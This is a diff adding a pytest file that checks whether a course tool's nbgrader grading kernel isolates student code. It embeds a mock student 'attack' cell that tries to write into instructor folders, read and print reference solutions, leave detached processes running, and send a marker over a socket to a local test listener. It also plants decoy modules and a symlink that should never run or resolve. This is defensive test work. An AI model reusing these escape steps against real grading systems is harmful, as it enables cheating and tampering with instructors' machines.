@@ -1,0 +1,335 @@
+"""nbgrader's kernel runs the student's code in tito's isolation (tito/nbgrader_kernel.py).
+
+`nbgrader autograde` runs the whole submitted notebook in a Jupyter kernel. tito's judge decides the
+points before that kernel starts (tito/nbgrader_judge.py), but the kernel itself ran the student's
+code as the instructor: it could write the checkout and the course folder, read the reference
+solutions in COURSE/source and print them into the outputs `generate_feedback` hands the student,
+leave a process running, and reach the network. One autograde run of two submissions of module 09,
+both the reference with a free cell of the student's own: an attack that tries all four, and an
+honest print. Now the attack reaches none of them, both score what `tito grade` gives, and the
+kernel's outputs (the print, the lesson's figures) are still there.
+"""
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import signal
+import socket
+import sys
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from tito import main, paths
+from tito.grading import processes
+
+pytest.importorskip("nbgrader", reason="nbgrader 0.9.6 is in the dev extra on Python 3.11 and newer: pip install -e \".[dev]\"")
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "grading"))
+import submissions_09 as subs  # noqa: E402  tests/grading/submissions_09
+from test_nbgrader import ASSIGNMENT, nbgrader  # noqa: E402
+
+if subs.MODULE is None:
+    pytest.skip("src/09_convolutions does not exist", allow_module_level=True)
+
+MARKER = f"h55-{secrets.token_hex(6)}"
+
+# A free cell (no nbgrader metadata: never graded) near the top, as a student would write it once
+# they know where the course lives (a traceback or a shared machine shows the paths).
+ATTACK = '''\
+# scratch: just checking my setup
+import json, os, shutil, socket, subprocess, sys
+
+for folder in ({checkout!r}, {course!r}):
+    try:
+        with open(os.path.join(folder, "{marker}.txt"), "w") as handle:
+            handle.write("hello")
+        print("wrote into", folder)
+    except OSError as error:
+        print("cannot write into", folder, error)
+
+try:
+    with open({source!r}) as handle:
+        cells = json.load(handle)["cells"]
+    solution = next("".join(cell["source"]) for cell in cells if "### BEGIN SOLUTION" in "".join(cell["source"]))
+    print("LEAKED:", solution[solution.index("### BEGIN SOLUTION"):][:400])
+except Exception as error:
+    print("no solution:", error)
+
+for command in (["sleep", "600"], [sys.executable, "-c", "import time; time.sleep(600)"]):
+    try:
+        subprocess.Popen(command, start_new_session=True, env=dict(os.environ, MY_MARK="{marker}"),
+                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        print("started", command[0])
+    except OSError as error:
+        print("cannot start", command[0], error)
+
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
+        connection.sendall(b"{marker}")
+    print("sent it out")
+except OSError as error:
+    print("no network:", error)
+'''
+
+HONEST = 'print("my own check:", 6 * 7)\n'
+
+
+def with_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
+    nb = nbformat.from_dict(nbformat.from_dict(nb))  # deep copy
+    nb.cells.insert(2, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+def markers_alive() -> list[int]:
+    """Processes whose environment holds MARKER (the attack's detached ones)."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                with open(f"/proc/{entry}/environ", "rb") as handle:
+                    if f"MY_MARK={MARKER}".encode() in handle.read():
+                        found.append(int(entry))
+            except OSError:
+                continue
+    return found
+
+
+class Listener:
+    """A TCP port on this machine's loopback; remembers what reaches it."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = b""
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def serve(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(5)
+                try:
+                    self.received += connection.recv(1024)
+                except OSError:
+                    pass
+
+
+@pytest.fixture(scope="module")
+def autograded(tmp_path_factory):
+    if not sys.platform.startswith("linux"):
+        pytest.skip("the attack paths are Linux's")
+    tmp = tmp_path_factory.mktemp("kernel")
+    course = tmp / "course"
+    checkout = paths.repo_root(Path(__file__).parent)
+    assert main.main(["dev", "release", "--nbgrader", str(course), "09"]) == 0
+    nbgrader(course, "generate_assignment", ASSIGNMENT)
+    student = nbformat.read(str(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
+    listener = Listener()
+    attack = ATTACK.format(checkout=str(checkout), course=str(course), marker=MARKER, port=listener.port,
+                           source=str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))
+    reference = subs.build(student=student)
+    submissions = {"mallory": with_cell(reference, attack), "alice": with_cell(reference, HONEST)}
+    for name, nb in submissions.items():
+        path = course / "submitted" / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+        path.parent.mkdir(parents=True)
+        nbformat.write(nb, str(path))
+    written = [checkout / f"{MARKER}.txt", course / f"{MARKER}.txt"]
+    try:
+        log = nbgrader(course, "autograde", ASSIGNMENT)
+        alive = markers_alive()
+        yield {"course": course, "log": log, "alive": alive, "written": [p for p in written if p.exists()],
+               "received": listener.received, "submissions": submissions, "tmp": tmp}
+    finally:
+        listener.server.close()
+        for path in written:
+            path.unlink(missing_ok=True)  # before the change the attack wrote them
+        for pid in markers_alive():
+            try:
+                os.kill(pid, signal.SIGKILL)  # before the change the attack's sleepers outlived autograde
+            except OSError:
+                pass
+
+
+def outputs_text(nb: nbformat.NotebookNode) -> str:
+    texts = []
+    for cell in nb.cells:
+        for output in cell.get("outputs", []):
+            texts.append(output.get("text", "") + json.dumps(output.get("data", {})) + output.get("evalue", ""))
+    return "\n".join(texts)
+
+
+def autograded_notebook(course: Path, student: str) -> nbformat.NotebookNode:
+    return nbformat.read(str(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
+
+
+@pytest.mark.slow
+def test_the_kernel_reaches_nothing_of_the_instructors_and_scores_what_tito_gives(autograded, capsys):
+    if not processes.isolation().namespaces:
+        pytest.skip("no namespaces here: the kernel runs as before, and autograde's log says so")
+    course = autograded["course"]
+    attack_cell = autograded_notebook(course, "mallory").cells[2]
+    said = outputs_text(nbformat.v4.new_notebook(cells=[attack_cell]))
+    with capsys.disabled():
+        print("\nthe attack cell, as the kernel ran it:\n" + said)
+    assert "cannot write into" in said and "no network:" in said, said  # it ran, and failed
+    assert autograded["written"] == []                                  # (a) neither the checkout nor the course
+    assert "LEAKED:" not in outputs_text(autograded_notebook(course, "mallory"))  # (b) no reference solution
+    assert "### BEGIN SOLUTION" not in said
+    assert autograded["alive"] == []                                    # (c) nothing outlives the kernel
+    assert autograded["received"] == b""                                # (d) no network
+    # The points are tito's, item by item.
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
+        theirs = {grade.name: grade.score for grade in
+                  gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "mallory").grades}
+    report = autograded["tmp"] / "mallory.json"
+    submitted = course / "submitted" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    assert main.main(["grade", "09", str(submitted), "--json", str(report)]) == 0
+    ours = json.loads(report.read_text())
+    assert theirs == {test["id"]: test["points_earned"] for test in ours["tests"]}
+    assert ours["total"] == ours["max"]  # the reference's code: full marks
+
+
+@pytest.mark.slow
+def test_the_kernel_still_shows_the_notebooks_outputs(autograded):
+    nb = autograded_notebook(autograded["course"], "alice")
+    assert [output.text for output in nb.cells[2].outputs] == ["my own check: 42\n"]
+    figures = [output for cell in nb.cells for output in cell.get("outputs", []) if "image/png" in output.get("data", {})]
+    assert figures, "the lesson's figures are gone from the kernel's outputs"
+    graded = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")]
+    assert graded and all(cell.outputs[0].text.startswith("tito's judge: passed") for cell in graded)
+
+
+# ---------------------------------------------------------------- the kernel alone, without autograde
+
+def kernel_run(course: Path, folder: Path, code: str) -> str:
+    """What `code` prints in the course's kernel started (as nbgrader's Execute starts it: the course's
+    configuration, the notebook's folder as working folder) in `folder`."""
+    from jupyter_client.manager import KernelManager
+    from traitlets.config.loader import PyFileConfigLoader
+
+    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
+    manager = KernelManager(kernel_name="tinytorch", config=config)
+    manager.start_kernel(cwd=str(folder))
+    client = manager.client()
+    client.start_channels()
+    try:
+        client.wait_for_ready(timeout=120)
+        printed = []
+        reply = client.execute_interactive(code, timeout=120, output_hook=lambda msg: printed.append(
+            msg["content"].get("text", "") if msg["msg_type"] == "stream" else
+            "\n".join(msg["content"].get("traceback", [])) if msg["msg_type"] == "error" else ""))
+        assert reply["content"]["status"] == "ok", "".join(printed)
+        return "".join(printed)
+    finally:
+        client.stop_channels()
+        manager.shutdown_kernel(now=True)
+
+
+VIEW = '''\
+import json, os, socket, sys
+seen = {{"uid": os.getuid(), "processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
+        "visible": {{path: os.path.exists(path) for path in {paths!r}}}, "cwd": os.getcwd()}}
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
+    seen["network"] = True
+except OSError as error:
+    seen["network"] = str(error)
+import tinytorch.core.tensor
+seen["tinytorch"] = tinytorch.__file__
+try:
+    import tinytorch.core.spatial
+    seen["graded module"] = tinytorch.core.spatial.__file__
+except ImportError as error:
+    seen["graded module"] = str(error)
+with open("data.txt") as handle:
+    seen["data"] = handle.read()
+with open("data.txt", "w") as handle:
+    handle.write("changed")
+try:
+    with open("answers.ipynb") as handle:
+        seen["link"] = handle.read()[:50]
+except OSError as error:
+    seen["link"] = str(error)
+print("SEEN", json.dumps(seen))
+'''
+
+
+@pytest.fixture
+def course(tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("JUPYTER_PATH", "")  # the course's configuration sets it; restored afterwards
+    course = tmp_path / "course"
+    assert main.main(["dev", "release", "--nbgrader", str(course), "09"]) == 0
+    capsys.readouterr()
+    return course
+
+
+def test_the_kernel_sees_its_folder_and_the_package_before_the_graded_module_only(course, tmp_path):
+    """The kernel's file system is an allow-list: no checkout, no COURSE/source, no gradebook, not the
+    instructor's HOME; a copy of its folder (links copied as links), tinytorch without the graded
+    module; no network, nothing of the machine's processes, a user id of its own when tito is root.
+    A `tito` package or `json.py` in the student's folder is not what starts the kernel."""
+    iso = processes.isolation()
+    if not iso.namespaces:
+        pytest.skip("no namespaces here: the kernel runs as before")
+    checkout = paths.repo_root(Path(__file__).parent)
+    folder = course / "submitted" / "eve" / ASSIGNMENT
+    folder.mkdir(parents=True)
+    (folder / "data.txt").write_text("my data")
+    (folder / "answers.ipynb").symlink_to(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
+    for name in ("tito/__init__.py", "tito/nbgrader_kernel.py", "json.py", "shutil.py"):  # as the instructor?
+        (folder / name).parent.mkdir(exist_ok=True)
+        (folder / name).write_text(f"open({str(tmp_path / 'ran-as-instructor')!r}, 'w').write({name!r})\n")
+    (course / "gradebook.db").write_text("")
+    other = course / "submitted" / "bob" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"  # another student's submission
+    other.parent.mkdir(parents=True)
+    other.write_text("{}")
+    listener = Listener()
+    shown = [str(checkout), str(checkout / "src"), str(course / "source"), str(course / "gradebook.db"),
+             str(Path.home() / ".cache"), str(other), str(folder / "data.txt")]
+    printed = kernel_run(course, folder, VIEW.format(paths=shown, port=listener.port))
+    listener.server.close()
+    seen = json.loads(printed.split("SEEN ", 1)[1])
+    assert not (tmp_path / "ran-as-instructor").exists()
+    visible = seen["visible"]
+    assert [path for path in shown if visible[path]] == [str(folder / "data.txt")], visible
+    assert seen["cwd"] == str(folder) and seen["data"] == "my data"
+    assert (folder / "data.txt").read_text() == "my data"  # it wrote its copy
+    assert "No such file" in seen["link"], seen["link"]
+    assert seen["network"] is not True and listener.received == b""
+    assert seen["tinytorch"] == "/tmp/.tito-lib/tinytorch/__init__.py"
+    assert "No module named 'tinytorch.core.spatial'" in seen["graded module"], seen["graded module"]
+    assert len(seen["processes"]) <= 3, seen["processes"]  # the namespace's PID 1, the kernel (and its ldd child gone)
+    if iso.own_uid:
+        assert seen["uid"] not in (0, os.getuid()), seen["uid"]
+
+
+def test_without_namespaces_the_kernel_runs_as_before_and_autograde_says_so_once(course, monkeypatch, caplog):
+    from tito import nbgrader_judge
+    from tito.nbgrader_judge import TitoGrade
+
+    monkeypatch.setattr(nbgrader_judge, "_SAID", set())
+    monkeypatch.setenv(processes.NO_NAMESPACES_ENV, "1")
+    processes.isolation.cache_clear()
+    try:
+        folder = course / "submitted" / "eve" / ASSIGNMENT
+        folder.mkdir(parents=True)
+        printed = kernel_run(course, folder, "import os; print('uid', os.getuid(), os.getcwd())")
+        assert printed == f"uid {os.getuid()} {folder}\n"
+        nb = nbformat.v4.new_notebook()
+        with caplog.at_level("WARNING"):
+            for _ in range(2):
+                TitoGrade(python="/nonexistent/python3").preprocess(nb, {"nbgrader": {"notebook": ASSIGNMENT}})
+        said = [record.getMessage() for record in caplog.records if "nbgrader's kernel" in record.getMessage()]
+        assert len(said) == 1 and "off: PID and mount namespaces" in said[0], said
+    finally:
+        monkeypatch.delenv(processes.NO_NAMESPACES_ENV)
+        processes.isolation.cache_clear()
